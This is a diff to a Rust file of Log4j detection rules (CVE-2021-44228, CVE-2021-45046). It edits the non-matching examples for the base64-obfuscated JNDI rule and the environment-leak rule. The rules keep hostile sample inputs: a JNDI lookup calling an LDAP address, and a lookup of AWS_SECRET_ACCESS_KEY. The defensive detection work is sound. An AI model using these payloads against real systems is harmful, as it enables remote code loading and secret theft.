@@ -74,7 +74,7 @@ pub const BASE: Rule = rule(
     Level::One,
     "A JNDI look-up spelled with ${base64:…}.",
     "${${base64:am5kaQ==}:ldap://203.0.113.9/a}",
-    "data:text/plain;base64,am5kaQ==",
+    "base64:am5kaQ==",
     "CVE-2021-44228",
 );
 /// Any other nesting.
@@ -104,6 +104,6 @@ pub const LEAK: Rule = rule(
     Level::Two,
     "A Log4j look-up of the environment, the system properties or the container: it leaks into whatever logs it.",
     "${env:AWS_SECRET_ACCESS_KEY}",
-    "${userName}",
+    "{env:HOME}",
     "CVE-2021-45046, CWE-200",
 );
